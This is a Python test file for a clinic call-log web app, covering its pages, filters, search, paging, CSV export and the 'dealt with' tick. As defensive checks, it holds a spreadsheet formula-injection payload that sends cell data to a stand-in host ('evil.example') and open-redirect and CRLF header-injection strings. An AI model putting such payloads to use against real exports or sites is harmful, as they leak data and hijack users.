"""The log: which calls it shows and to whom, as pages and as CSV; the story of a call, and its tick."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

import pytest

from textback.store.tables import calls

from .house import ANN, BOB, NOW, House, Somebody
from .parsed import Page, shown

DAY = 86_400.0


def keys(somebody: Somebody, **query: str) -> list[str]:
    """The ids of the calls on a page, in its order."""
    answer = somebody.get(f"/calls?{urlencode(query)}")
    assert answer.status == 200
    return [has["data-key"] for has in Page(answer.body).all("tr") if "data-key" in has]


def sheet(somebody: Somebody, **query: str) -> list[list[str]]:
    answer = somebody.get(f"/calls.csv?{urlencode(query)}")
    assert answer.status == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="calls.csv"'
    mark, text = whole(answer.body)[:1], whole(answer.body)[1:]
    assert mark == "\ufeff"
    return list(csv.reader(io.StringIO(text)))


def whole(body: str) -> str:
    """A body that was sent in chunks (RFC 9112, 7.1)."""
    data, found = body.encode(), b""
    while data:
        size, _, rest = data.partition(b"\r\n")
        found, data = found + rest[: int(size, 16)], rest[int(size, 16) + 2 :]
        if int(size, 16) == 0:
            break
    return found.decode()


def test_the_first_page_is_the_log(house: House, dana: Somebody) -> None:
    answer = dana.get("/")
    assert (answer.status, answer.headers["location"]) == (303, "/calls")
    assert "No call has come in yet." in dana.get("/calls").body


def test_the_newest_call_stands_first_with_all_that_is_known(house: House, dana: Somebody) -> None:
    house.contact(first_name="Ann", last_name="Lee")
    talk = house.talk(last_reply_at=NOW - 30)
    sent = house.text(talk, "We missed you", NOW - 270, direction="out", flow="missed", status="delivered")
    house.call(NOW - 7200, disposition="answered", answered_by="104", answered_at=NOW - 7190, needs_since=None)
    house.call(NOW - 300, conversation_id=talk, message_id=sent, verdict="text", why="text: nobody answered")
    house.call(NOW - 60, caller=None, caller_name=None, queue="support", disposition=None, ended_at=None)
    rows = shown(dana.get("/calls").body)
    assert [row.split()[0] for row in rows] == ["11:59", "11:55", "10:00"]
    assert "Number withheld" in rows[0] and "support" in rows[0] and "On the line" in rows[0]
    assert "Ann Lee (202) 555-0111 · patient · 2 calls in 24 h" in rows[1]
    assert "Missed nobody answered" in rows[1] and "Replied 11:59" in rows[1] and "Dealt with" in rows[1]
    assert "Answered by 104 after 10 s" in rows[2] and "No text" in rows[2]
    assert "Replied 11:59 : open the conversation" in rows[1]
    assert Page(dana.get("/calls").body).all("a", href=f"/conversations/{talk}")


@pytest.mark.parametrize("state", ["failed", "undelivered"])
def test_a_text_that_did_not_arrive_is_told_by_a_sign_and_not_by_colour_alone(
    house: House, dana: Somebody, state: str
) -> None:
    talk = house.talk(last_reply_at=None)
    sent = house.text(talk, direction="out", flow="missed", status=state, reason="landline: cannot receive texts")
    house.call(conversation_id=talk, message_id=sent, verdict="text")
    (row,) = shown(dana.get("/calls").body)
    assert "Not delivered : open the conversation ✕ call back? landline: cannot receive texts" in row


def test_each_filter_shows_what_it_says(any_house: House) -> None:
    house, dana = any_house, any_house.somebody()
    talk = house.talk(last_reply_at=NOW)
    sent = house.text(talk, at=NOW - DAY, direction="out", flow="missed", status="delivered")
    held = house.text(talk, at=NOW - 290, direction="out", flow="missed", status="held")
    today = house.call(NOW - 300, queue="support", message_id=held, conversation_id=talk, disposition="abandoned")
    before = house.call(NOW - DAY, message_id=sent, conversation_id=talk, needs_since=None)
    last_week = house.call(NOW - 6 * DAY, disposition="answered", needs_since=None, voicemail=True)
    long_ago = house.call(NOW - 40 * DAY, disposition="texted", caller=BOB, caller_name="Jones, Bob")
    house.call(practice="Grove", caller=BOB, caller_name="Jones, Bob")
    assert keys(dana) == [today, before, last_week, long_ago]
    assert keys(dana, when="today") == keys(dana, queue="support") == keys(dana, ended="abandoned") == [today]
    assert keys(dana, when="yesterday") == keys(dana, ended="missed") == [before]
    assert keys(dana, when="7d") == [today, before, last_week]
    assert keys(dana, when="30d", ended="answered") == [last_week]
    assert keys(dana, **{"from": "2026-10-01", "to": "2026-11-15"}) == [last_week, long_ago]
    assert keys(dana, to="2026-11-14") == [long_ago]
    assert keys(dana, ended="unanswered") == [today, before, long_ago]
    assert keys(dana, show="needs") == [today, long_ago]
    assert keys(dana, text="replied") == [today, before]
    assert keys(dana, text="delivered") == [before]
    assert keys(dana, text="held") == [today]
    assert keys(dana, text="none") == [last_week, long_ago]
    assert keys(dana, text="not_delivered") == keys(dana, queue="Support's") == []
    assert keys(dana, when="sometimes", ended="x", text="y", show="z", **{"from": "then"}) == keys(dana)


def test_a_search_finds_a_number_its_last_digits_or_a_name(any_house: House) -> None:
    house, dana = any_house, any_house.somebody()
    house.contact(first_name="Zoë", last_name="O'Neil_100%")
    ann, bob = house.call(NOW - 1), house.call(NOW - 2, caller=BOB, caller_name="Jones, Bob")
    house.call(caller="+12025550999", practice="Grove", caller_name="Jones, Bob")
    assert keys(dana, q="(202) 555-0111") == keys(dana, q=ANN) == keys(dana, q="0111") == [ann]
    assert keys(dana, q="550122") == keys(dana, q="bob JONES") == [bob]
    assert keys(dana, q="o'neil_100%") == [ann]
    assert keys(dana, q="111") == keys(dana, q="%%") == keys(dana, q="0999") == []
    assert "Search for a whole number" in dana.get("/calls?q=%25%25").body


def test_who_sees_several_practices_filters_by_them(house: House) -> None:
    ours, theirs, none = house.call(NOW - 1), house.call(NOW - 2, practice="Grove"), house.call(NOW - 3, practice=None)
    ada, dana = house.somebody("ada"), house.somebody()
    assert keys(ada) == [ours, theirs, none]
    assert keys(ada, practice="Grove") == [theirs] and keys(ada, practice="Nowhere") == []
    assert keys(dana) == keys(dana, practice="Riverside") == [ours] and keys(dana, practice="Grove") == []
    assert not Page(dana.get("/calls").body).all("select", name="practice")


def test_pages_follow_each_other_without_a_gap_or_a_double(house: House, dana: Somebody) -> None:
    made = [house.call(NOW - 60 - number // 3) for number in range(120)]
    expected = sorted(made, key=lambda one: (-(NOW - 60 - made.index(one) // 3), one), reverse=False)
    seen: list[str] = []
    query: str | None = ""
    for _ in range(3):
        page = Page(dana.get(f"/calls?{query}").body)
        seen += [has["data-key"] for has in page.all("tr") if "data-key" in has]
        following = page.all("a", rel="next")
        query = following[0]["href"].partition("?")[2] if following else None
    assert query is None and len(seen) == len(set(seen)) == 120 and set(seen) == set(expected)
    assert [row["started_at"] for key in seen for row in house.rows(calls) if row["id"] == key] == sorted(
        (row["started_at"] for row in house.rows(calls)), reverse=True
    )


def test_beyond_the_end_and_at_the_ends_of_time_there_is_nothing(any_house: House) -> None:
    house, dana = any_house, any_house.somebody()
    call = house.call()
    for before in ("1~x", "-62000000000~x", "0~~"):
        assert keys(dana, before=before) == []
    assert "There are no calls here." in dana.get("/calls?before=1~x").body
    for before in ("253402300799~x", "soon", "nan~x", "1e999~x", "1790000000", "~", "1790000000~"):
        assert keys(dana, before=before) == [call]
    assert keys(dana, **{"from": "9999-12-31"}) == keys(dana, to="0001-01-01") == []
    assert keys(dana, **{"from": "0001-01-01", "to": "9999-12-31"}) == [call]


def test_an_earlier_page_hears_of_its_own_rows_only(house: House, dana: Somebody) -> None:
    for number in range(60):
        house.call(NOW - number)
    first = Page(dana.get("/calls?when=today").body)
    second = Page(dana.get(first.all("a", rel="next")[0]["href"]).body)
    assert first.all("body")[0]["data-live"] == "/live/calls?when=today"
    assert "before=" in second.all("body")[0]["data-live"]


def test_the_sheet_is_what_is_shown_and_all_pages_of_it(house: House, dana: Somebody) -> None:
    for number in range(510):
        house.call(NOW - number, queue="support" if number % 2 else None)
    house.call(practice="Grove")
    rows = sheet(dana)
    assert len(rows) == 511 and rows[0][:3] == ["contact", "id", "practice"]
    assert {row[2] for row in rows[1:]} == {"Riverside"}
    assert rows[1][rows[0].index("started_at")] == "2026-11-21T12:00:00.000Z"
    assert len(sheet(dana, queue="support")) == 256
    assert house.trail() == [("dana", "exported")] * 2


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " ="])
def test_no_name_becomes_a_formula_in_a_spreadsheet(house: House, dana: Somebody, sign: str) -> None:
    evil = f'{sign}HYPERLINK("http://evil.example?"&A1,"x")'
    house.contact(first_name=evil, last_name="")
    house.call(caller_name=evil, queue=evil, answered_by=evil, why=evil, did=evil)
    header, row = sheet(dana)
    cells = dict(zip(header, row, strict=True))
    for name in ("contact", "caller_name", "queue", "answered_by", "why", "did"):
        assert "HYPERLINK" in cells[name]
        assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), (name, cells[name])
    assert "\r" not in "".join(row) and "\n" not in "".join(row)


def test_a_row_opens_the_whole_story_and_that_is_written_down(house: House, dana: Somebody) -> None:
    told = [[NOW - 300, "called +12025550199"], [NOW - 290, "waits in support"], [NOW - 200, "hung up"]]
    call = house.call(queue="support", hold_seconds=90.0, story=told, why="skip: had an automatic text 1 h 10 min ago")
    other = house.call(NOW - 90_000, disposition="answered")
    house.call(NOW - 3, practice="Grove")
    page = Page(dana.get(f"/calls/{call}").body)
    assert "11:55 called +12025550199 +10 s waits in support +1 min 40 s hung up" in page.text
    assert "Why: skip: had an automatic text 1 h 10 min ago (cooldown)" in page.text
    assert "On hold 1 min 30 s" in page.text and "20 Nov 11:00 Answered" in page.text
    assert [has["href"] for has in page.all("a") if has["href"].startswith("/calls/")] == [f"/calls/{other}"]
    assert house.trail() == [("dana", "read")]


def test_an_id_is_found_whatever_its_pbx_made_it_of(any_house: House) -> None:
    dana = any_house.somebody()
    for name in ("main/1700000000.1", "fs/a b?c#d&e%2F", "fs/../é/日本", "dealt-with"):
        call = any_house.call(id=name)
        (row,) = [has for has in Page(dana.get("/calls").body).all("a") if has.get("href", "").endswith(quoted(name))]
        assert dana.get(row["href"]).status == 200
        done = dana.post("/calls/dealt-with", tick=call, call=call)
        assert done.status == 303 and dana.get(done.headers["location"]).status == 200
    assert dana.get("/calls/main/nothing").status == 404 and dana.get("/calls/%00").status == 404


def quoted(name: str) -> str:
    return urlencode({"": name}).partition("=")[2].replace("%2F", "/").replace("+", "%20")


def test_a_tick_and_its_way_back(house: House, dana: Somebody) -> None:
    call, other = house.call(), house.call(NOW - 500)
    done = dana.post("/calls/dealt-with", tick=call, back="ended=missed&said=sent")
    assert (done.status, done.headers["location"]) == (303, "/calls?ended=missed&said=dealt_with")
    row = next(row for row in house.rows(calls) if row["id"] == call)
    assert (row["needs_since"], row["dealt_with_by"], row["dealt_with_at"]) == (None, "dana", NOW)
    page = dana.get(done.headers["location"])
    assert "Marked as dealt with." in page.body and "✓ dana" in shown(page.body)[0]
    assert keys(dana, show="needs") == [other]
    back = dana.post("/calls/dealt-with", untick=call, call=call)
    assert back.headers["location"] == f"/calls/{call}?said=needed"
    assert "It needs somebody again." in dana.get(back.headers["location"]).body
    assert keys(dana, show="needs") == [call, other]
    assert house.trail("read") == [("dana", "dealt_with"), ("dana", "not_dealt_with")]


def test_a_tick_leads_nowhere_but_to_the_log(house: House, dana: Somebody) -> None:
    call = house.call()
    for back in ("//evil.example", "https://evil.example/", "\r\nSet-Cookie: a=b", "q=%0d%0aX: y", "said=sent"):
        done = dana.post("/calls/dealt-with", tick=call, back=back)
        assert done.headers["location"].startswith("/calls?") and "set-cookie" not in done.headers
    assert dana.post("/calls/dealt-with", tick="main/nothing").status == 404
    assert dana.post("/calls/dealt-with").status == 404


def test_the_figures_are_those_of_today_and_of_their_practices(house: House, dana: Somebody) -> None:
    house.call()
    house.call(NOW - 100, disposition="answered", needs_since=None)
    house.call(NOW - 2 * DAY)
    house.call(practice="Grove")
    text = Page(dana.get("/calls").body).text
    assert "2 calls today 1 answered 0 gave up on hold 1 missed 0 asked for a text 2 need somebody" in text
